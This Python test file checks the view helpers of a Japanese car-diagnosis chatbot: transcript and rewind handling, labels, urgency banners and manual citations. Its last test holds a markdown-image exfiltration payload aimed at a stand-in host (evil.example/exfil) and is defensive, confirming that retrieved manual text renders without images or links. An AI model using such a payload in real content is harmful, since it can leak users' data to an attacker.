"""core.diagnosis.view: the page helpers (transcript bookkeeping, rewind cut, labels)."""
from __future__ import annotations

from diagnosis_fakes import MIRAI, FakeRetriever, Hit

from core.diagnosis import ChatRequest, ChatService, UrgencyInfo, view
from core.diagnosis.models import BookingField, Choice, PromptInfo
from core.llm.offline import OfflineClient

LAMP_HITS = [Hit("m:s39", "ABS警告灯", "warning", True, 0.8, 413, text="ABS警告灯は点灯したら点検してください。")]


def make():
    service = ChatService(OfflineClient(), retriever=FakeRetriever(LAMP_HITS))
    transcript: list = []
    response = view.start(service, transcript)
    return service, transcript, response


def go(service, transcript, response, **fields):
    return view.send(service, transcript, ChatRequest(session_id=response.session_id, **fields), prompt=response.prompt)


def test_send_records_inputs_with_the_rewind_point_they_created_and_rewind_cuts_back():
    service, transcript, r = make()
    assert [e["role"] for e in transcript] == ["assistant"] and "お車を選んで" in transcript[0]["message"]
    r = go(service, transcript, r, action="select_vehicle", action_value=MIRAI)
    assert transcript[-2] == {"role": "user", "text": "カイワ自動車 ミライバ ハイブリッド（2022年式 Z）", "turn": None,
                              "action": "select_vehicle", "action_value": MIRAI}  # replayable by シナリオ化
    assert r.current_step == "photo_confirm"
    r = go(service, transcript, r, action="confirm_photo", action_value="yes")
    assert transcript[-2]["text"] == "はい、この車です"
    r = go(service, transcript, r, message="メーターに黄色いランプが点灯している")
    assert transcript[-2] == {"role": "user", "text": "メーターに黄色いランプが点灯している", "turn": 1}
    assert r.snapshot_turn == 1  # the response names the rewind point it created: no second session load
    assert transcript[-1]["sources"][0]["section"] == "ABS警告灯" and transcript[-1]["sources"][0]["page"] == 413
    abs_choice = next(c for c in r.prompt.choices if c.label.startswith("ABS"))
    r = go(service, transcript, r, action="answer", action_value=abs_choice.value)
    assert transcript[-2]["turn"] == 2 and transcript[-2]["text"] == abs_choice.label
    length_before_answer = len(transcript) - 2
    r = go(service, transcript, r, rewind_to_turn=2)
    assert r.rewound_to_turn == 2 and len(transcript) == length_before_answer
    assert "次のどれに近いですか" in transcript[-1]["message"] and r.prompt.choices
    assert service.rewind_points(r.session_id) == [1]


def test_restart_and_an_expired_session_start_the_transcript_afresh():
    service, transcript, r = make()
    r = go(service, transcript, r, action="select_vehicle", action_value=MIRAI)
    r = go(service, transcript, r, action="restart")
    assert len(transcript) == 1 and r.current_step == "vehicle_id"
    go(service, transcript, r, action="select_vehicle", action_value=MIRAI)
    service.store.delete(r.session_id)
    r2 = view.send(service, transcript, ChatRequest(session_id=r.session_id, message="ブレーキが変"), prompt=r.prompt)
    assert r2.session_id != r.session_id and len(transcript) == 1 and transcript[0]["notice"]


def test_request_labels():
    prompt = PromptInfo(choices=[Choice(value="dispatch", label="🚚 手配する")],
                        booking_fields=[BookingField(name="name", label="お名前"), BookingField(name="phone", label="電話番号")])
    assert view.request_label(ChatRequest(action="reserve", action_value="dispatch"), prompt) == "🚚 手配する"
    assert view.request_label(ChatRequest(action="booking", action_value="edit"), prompt) == "✏️ 修正する"
    assert view.request_label(ChatRequest(action="submit_booking", action_value={"name": "山田", "phone": ""}),
                              prompt) == "📝 お名前: 山田"
    assert view.request_label(ChatRequest(rewind_to_turn=2), prompt) is None
    assert view.request_label(ChatRequest(message="はい"), None) == "はい"


def test_urgency_banner_levels():
    critical = view.urgency_banner(UrgencyInfo(level="critical", can_drive=False, visit_urgency="immediate",
                                               reasons=["ブレーキの効きに異常がある可能性"]))
    assert (critical.kind, critical.icon) == ("error", "🚨")
    assert "緊急度: 緊急" in critical.text and "自走不可" in critical.text and "来場の目安: 今すぐ" in critical.text
    assert "判断の理由: ブレーキの効きに異常がある可能性" in critical.text
    no_drive_high = view.urgency_banner(UrgencyInfo(level="high", can_drive=False))
    assert no_drive_high.kind == "error"
    high = view.urgency_banner(UrgencyInfo(level="high", can_drive=True, visit_urgency="today"))
    assert (high.kind, high.icon) == ("warning", "⚠️") and "走行可" in high.text and "本日中" in high.text
    assert view.urgency_banner(UrgencyInfo(level="medium", can_drive=True)) is None
    assert view.urgency_banner(None) is None


def test_citation_caption_and_assets():
    sources = [{"section": f"節{i}", "page": i} for i in range(1, 5)]
    assert view.citation_caption(sources) == "📖 参照した取扱説明書: 「節1」p.1／「節2」p.2／「節3」p.3 ほか 1 件"
    assert view.citation_caption([]) == ""
    assert view.asset_path("data/icons/warning-lights/abs.svg").endswith("abs.svg")
    assert view.asset_path("data/icons/missing.svg") is None and view.asset_path(None) is None
    card = view.vehicle_card("kaiwa-trek-4wd-2020")
    assert card["title"] == "カイワ自動車 トレック 4WD" and card["subtitle"] == "2020年式 G グレード" and card["image"]


HOSTILE = "![x](http://evil.example/exfil?d=1) <img src=http://evil.example/a> https://evil.example www.evil.example"


def _inert(markdown: str) -> None:
    from markdown_it import MarkdownIt

    page = MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(markdown)
    assert "<img" not in page and "<a " not in page and "://" not in markdown and "www." not in markdown


def test_manual_text_in_citations_and_excerpts_never_renders_images_or_links():
    source = {"section": "ABS [警告灯](http://evil.example)", "page": 413, "score": 0.8,
              "content": "点灯したら点検。\n" + HOSTILE + "\n- 手順1\n- 手順2"}
    details = view.source_details(source)
    _inert(details)
    assert details.startswith("**「ABS \\[警告灯\\]\\(http:／／evil.example)」 p.413**（スコア 0.80）")
    assert "点灯したら点検。\\\n" in details and "- 手順1\n- 手順2" in details
    caption = view.citation_caption([source])
    _inert(caption)
    assert "evil" in caption  # the section title is shown, as text
    banner = view.urgency_banner(UrgencyInfo(level="critical", can_drive=False, reasons=[HOSTILE]))
    _inert(banner.text)
